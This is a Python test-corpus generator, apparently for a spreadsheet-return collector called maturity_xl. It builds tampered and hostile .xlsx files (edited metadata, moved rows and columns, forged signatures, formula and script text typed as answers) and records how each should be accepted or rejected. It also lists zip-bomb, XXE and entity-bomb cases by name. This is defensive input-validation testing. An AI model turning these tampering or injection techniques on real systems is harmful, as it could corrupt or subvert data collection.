def case_version_edited() -> Case:
    return _version_edited("version-edited", "9.9", "one that does not exist")


def case_version_edited_to_archived() -> Case:
    return _version_edited("version-edited-to-archived", "1.0", "the archived 1.0")


def case_metadata_format_edited() -> Case:
    data = base().filled("format")[0]
    return Case("metadata-format-edited.xlsx", with_metadata(data, format="maturity-xl/99"),
                (REJECTED, "metadata-format"), note="the metadata sheet's format marker edited")


def case_forwarded() -> Case:
    b = base()
    answers = b.answers("forwarded")
    answers = replace(answers, respondent={**answers.respondent, "service": "Northfield Community Team"})
    data, _ = b.filled("forwarded", answers=answers)
    return Case("forwarded-to-another-service.xlsx", data, (ACCEPTED, "service-mismatch"), answers.ratings,
                note="generated for service A; the respondent's details name service B")


def case_statement_edited() -> Case:
    b = base()
    data, answers = b.filled("edited-text")
    row = b.layout.statement_cells[2].row
    data = patch_cells(data, {(ASSESSMENT, cell(row, b.layout.A_TEXT)): "We always do this perfectly."})
    return Case("statement-text-edited.xlsx", data, (ACCEPTED, "statement-edited"), answers.ratings,
                note="a statement's text edited")


def _statement_rows(ws, layout: Layout) -> list[int]:
    return [c.row + 1 for c in layout.statement_cells]


def case_rows_inserted() -> Case:
    b = base()
    data, answers = b.filled("inserted")
    at = b.layout.statement_cells[3].row + 1
    data = openpyxl_edit(data, lambda wb: wb[ASSESSMENT].insert_rows(at, 2))
    return Case("rows-inserted.xlsx", data, (ACCEPTED, "row-moved"), answers.ratings,
                note="two rows inserted in the Assessment sheet (openpyxl, unprotected copy)")


def case_row_deleted() -> Case:
    b = base()
    data, answers = b.filled("deleted")
    gone = b.layout.statement_cells[4]
    data = openpyxl_edit(data, lambda wb: wb[ASSESSMENT].delete_rows(gone.row + 1))
    return Case("row-deleted.xlsx", data, (ACCEPTED, "statement-missing"), {**answers.ratings, gone.statement_id: None},
                note="a statement's row deleted (it counts as unrated)")


def case_rows_sorted() -> Case:
    b = base()
    data, answers = b.filled("sorted")

    def sort(wb) -> None:
        ws = wb[ASSESSMENT]
        rows = _statement_rows(ws, b.layout)
        values = [[ws.cell(r, c).value for c in range(1, 7)] for r in rows]
        values.sort(key=lambda v: (-(v[2] if isinstance(v[2], (int, float)) else -1), str(v[0])))
        for r, row_values in zip(rows, values):
            for c, value in enumerate(row_values, start=1):
                ws.cell(r, c).value = value

    data = openpyxl_edit(data, sort)
    return Case("rows-sorted.xlsx", data, (ACCEPTED, "row-moved"), answers.ratings,
                note="statement rows sorted by rating (openpyxl)")


def shift_columns(at: int, by: int) -> Callable[[bytes], bytes]:
    """A sheet part edit: a blank column inserted before column `at` (0-based; by=1), or column `at` deleted
    (by=-1), as a respondent who unprotected the sheet would (only the cells move: the parser reads nothing
    else; the formulas keep their cached values)."""
    from maturity_xl.layout import col_letter

    def index(letters: bytes) -> int:
        n = 0
        for ch in letters:
            n = n * 26 + ch - 64
        return n - 1

    def move(m: re.Match) -> bytes:
        col = index(m.group(1))
        if col < at:
            return m.group(0)
        return b'<c r="%s%s"' % (col_letter(col + by).encode(), m.group(2))

    def edit(content: bytes) -> bytes:
        if by < 0:
            gone = re.escape(col_letter(at).encode())
            content = re.sub(rb'<c r="' + gone + rb'\d+"[^>]*?(?:/>|>.*?</c>)', b"", content, flags=re.S)
            content = re.sub(rb'<c r="([A-Z]+)(\d+)"', lambda m: m.group(0) if index(m.group(1)) <= at
                             else move(m), content)
            return content
        return re.sub(rb'<c r="([A-Z]+)(\d+)"', move, content)

    return edit


def _column_edited(tag: str, at: int, by: int) -> tuple[bytes, Filled]:
    data, answers = base().filled(tag)
    return edit_parts(data, {sheet_part(data, ASSESSMENT): shift_columns(at, by)}), answers


def case_column_inserted_before_rating() -> Case:
    data, answers = _column_edited("col-before-rating", base().layout.A_RATING, 1)
    return Case("column-inserted-before-rating.xlsx", data, (ACCEPTED, "column-moved"), answers.ratings,
                note="a column inserted before Rating (sheet unprotected): each column found by its header")


def case_column_inserted_at_a() -> Case:
    data, answers = _column_edited("col-at-a", 0, 1)
    return Case("column-inserted-at-a.xlsx", data, (ACCEPTED, "column-moved"), answers.ratings,
                note="a column inserted at A, before the ids: each column found by its header")


def case_column_deleted() -> Case:
    data, _answers = _column_edited("col-deleted", base().layout.A_EVIDENCE, -1)
    return Case("column-deleted.xlsx", data, (REJECTED, "column-missing"),
                note="the evidence column deleted: its answers are lost, so the return is sent back")


def case_sheet_renamed() -> Case:
    data, answers = base().filled("renamed-sheet")

    def rename(wb) -> None:
        wb[ASSESSMENT].title = "Our assessment"

    return Case("sheet-renamed.xlsx", openpyxl_edit(data, rename), (ACCEPTED, "sheet-renamed"), answers.ratings,
                note="the Assessment sheet renamed")


def case_metadata_sheet_renamed() -> Case:
    data, answers = base().filled("renamed-meta")

    def rename(content: bytes) -> bytes:
        return content.replace(b'<sheet name="Metadata"', b'<sheet name="Sheet5"')

    return Case("metadata-sheet-renamed.xlsx", edit_parts(data, {"xl/workbook.xml": rename}),
                (ACCEPTED, "sheet-renamed"), answers.ratings, note="the metadata sheet renamed")


def case_ratings_pasted_text() -> Case:
    b = base()
    data, answers = b.filled("pasted")
    hit = b.layout.statement_cells[:6]
    data = patch_cells(data, {(ASSESSMENT, cell(c.row, b.layout.A_RATING)): "see notes" for c in hit})
    ratings = {**answers.ratings, **{c.statement_id: None for c in hit}}
    return Case("ratings-pasted-over.xlsx", data, (ACCEPTED, "rating-invalid"), ratings,
                note="the rating column pasted over with text")


def case_formulas_to_values() -> Case:
    data, answers = base().filled("values")
    sheets = [name for name, _ in parts(data) if name.startswith("xl/worksheets/sheet")]

    def values(content: bytes) -> bytes:
        return re.sub(rb"<f>[^<]*</f>|<f\s[^>]*/>|<f\s[^>]*>[^<]*</f>", b"", content)

    return Case("formulas-replaced-by-values.xlsx", edit_parts(data, dict.fromkeys(sheets, values)),
                (ACCEPTED, None), answers.ratings, note="every formula replaced by its value")


def case_libreoffice_resave() -> Case | None:
    data, answers = base().filled("lo-resave")
    saved = _libreoffice(data, "xlsx", "resaved")
    return None if saved is None else Case("libreoffice-resave.xlsx", saved, (ACCEPTED, None), answers.ratings,
                                           note="opened and saved again by LibreOffice")


def case_signed_ok() -> Case:
    data, answers = base().filled("signed", signed=True)
    return Case("signed-ok.xlsx", data, (ACCEPTED, None), answers.ratings, signed=True,
                note="signed with the programme's key, untouched")


def case_signed_service_edited() -> Case:
    data, answers = base().filled("signed-edited", signed=True)
    return Case("signed-service-id-edited.xlsx", with_metadata(data, service_id="HX-someone-else"),
                (ACCEPTED, "signature-invalid"), answers.ratings, signed=True,
                note="signed; the service id in the metadata edited")


def case_signed_property_edited() -> Case:
    data, answers = base().filled("signed-prop", signed=True)

    def forge(content: bytes) -> bytes:
        return re.sub(rb"(maturity_xl_signature\"[^>]*>\s*<vt:lpwstr>)[0-9a-f]+", rb"\g<1>0badc0de", content)

    return Case("signed-property-edited.xlsx", edit_parts(data, {"docProps/custom.xml": forge}),
                (ACCEPTED, "signature-mismatch"), answers.ratings, signed=True,
                note="signed; the signature in the document properties edited")


def case_unsigned_when_key_expected() -> Case:
    data, answers = base().filled("unsigned")
    return Case("unsigned.xlsx", data, (ACCEPTED, "unsigned"), answers.ratings, signed=True,
                note="not signed, collected with the programme's key")


def case_free_text_injection() -> Case:
    """Formulas, links and markup typed as answers: read as text, kept inert in every report."""
    b = base()
    answers = b.answers("injection")
    ids = [s.id for s in b.framework.statements]
    rationale = {sid: DANGEROUS_TEXT[i % len(DANGEROUS_TEXT)] for i, sid in enumerate(ids)}
    evidence = {sid: DANGEROUS_TEXT[(i + 3) % len(DANGEROUS_TEXT)] for i, sid in enumerate(ids)}
    ratings = {sid: (answers.ratings.get(sid) or 1) for sid in ids}
    action_col = next(c.id for c in b.framework.action_columns if c.kind == "text")
    actions = {sid: {action_col: DANGEROUS_TEXT[i % len(DANGEROUS_TEXT)]} for i, sid in enumerate(ids[:11])}
    respondent = {**answers.respondent, "organisation": DANGEROUS_TEXT[10], "completed_by": DANGEROUS_TEXT[0],
                  "role": DANGEROUS_TEXT[4]}
    answers = replace(answers, ratings=ratings, rationale=rationale, evidence=evidence, actions=actions,
                      respondent=respondent)
    data, _ = b.filled("injection", answers=answers)
    return Case("formula-and-script-text.xlsx", data, (ACCEPTED, None), answers.ratings,
                note="answers that start with = + - @ tab CR, links and <script>")


CASES: tuple[Callable[[], Case | None], ...] = (
    case_old_xls, case_ods, case_csv, case_xlsb, case_numbers, case_html_as_xls, case_docx_as_xlsx,
    case_xlsx_renamed_xls, case_xlsm, case_strict_xml, case_namespace_prefixed, case_password, case_empty,
    case_truncated, case_utf16_text, case_pdf, case_utf16_parts, case_iso_date_cells, case_excel_escapes,
    case_zip_bomb, case_size_declared_smaller, case_size_declared_larger, case_overlapping_members,
    case_duplicate_members, case_encrypted_members, case_entity_bomb, case_entity_bomb_late, case_xxe,
    case_huge_shared_strings, case_many_sheets, case_many_parts, case_million_entry_directory,
    case_missing_part, case_invalid_utf8,
    case_unclosed_cells, case_archive_of_returns, case_archive_bomb, case_archive_size_liar,
    case_metadata_removed, case_fingerprint_edited, case_version_edited, case_version_edited_to_archived,
    case_metadata_format_edited, case_forwarded, case_statement_edited, case_rows_inserted, case_row_deleted,
    case_rows_sorted, case_column_inserted_before_rating, case_column_inserted_at_a, case_column_deleted,
    case_sheet_renamed, case_metadata_sheet_renamed, case_ratings_pasted_text,
    case_formulas_to_values, case_libreoffice_resave,
    case_signed_ok, case_signed_service_edited, case_signed_property_edited, case_unsigned_when_key_expected,
    case_free_text_injection,
)


def build_cases(folder: Path) -> dict[str, Case]:
    """Write every case into `folder`; {case function name: Case} (cases that cannot be made are left out)."""
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for make in CASES:
        case = make()
        if case is None:
            continue
        (folder / case.name).write_bytes(case.data)
        out[make.__name__] = case
    return out


def outcomes(cases: dict[str, Case]) -> dict[str, Outcome]:
    out: dict[str, Outcome] = {}
    for case in cases.values():
        if case.members:
            out.update({f"{case.name}!{member}": outcome for member, (outcome, _r) in case.members.items()})
        else:
            out[case.name] = case.outcome
    return out


def build_corpus(folder: Path) -> dict[str, Outcome]:
    """Write the corpus into `folder`; {file name as the collector logs it (relative): expected outcome}."""
    return outcomes(build_cases(Path(folder)))


def observed_table(folder: Path) -> str:
    """Build the corpus in `folder`, collect each file on its own, and return the markdown table the docs show."""
    import time

    from maturity_xl.collect import collect

    rows = ["| File | What it is | Status | Code | What the service reads (reason, then advice) | Time |",
            "|---|---|---|---|---|---|"]
    for case in build_cases(Path(folder)).values():
        path = Path(folder) / case.name
        started = time.perf_counter()
        collection = collect([path], workers=1, key=KEY if case.signed else None)
        seconds = time.perf_counter() - started
        for entry in collection.log:  # a rejected file's code is in the log; an accepted one's are its problems'
            member = entry.file.rsplit("!", 1)[1] if "!" in entry.file else None
            response = next((r for r in collection.responses if r.file == entry.file), None)
            code = entry.code or ", ".join(sorted({p.code for p in response.problems} if response else ()))
            said = f"{entry.reason} *{entry.advice}*" if entry.status == "rejected" else ""
            name = f"{case.name}!{member}" if member else case.name
            rows.append(f"| `{name}` | {case.note} | {entry.status} | {code} | {said} | {seconds:.2f} s |")
    return "\n".join(rows)


if __name__ == "__main__":  # python tests/corpus.py OUT: write the corpus and print what becomes of each file
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    print(observed_table(target))
